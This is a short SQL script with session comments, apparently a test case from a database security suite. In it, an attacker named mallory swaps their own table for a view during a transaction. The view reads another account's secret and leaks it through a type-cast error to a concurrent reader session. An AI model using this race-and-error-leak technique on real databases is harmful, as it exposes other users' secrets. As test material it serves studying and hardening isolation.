-- Gives an own table another meaning while a statement waits for it, and has an error tell what was read.
-- wants: read
-- attack:
-- session: first
BEGIN;
DROP TABLE mallory_own;
CREATE VIEW mallory_own AS SELECT read_any('SELECT secret FROM vlt_account')::int AS v;
-- session: reader
-- without waiting
SELECT v FROM mallory_own;
-- session: first
SELECT pg_sleep(0.3);
COMMIT;
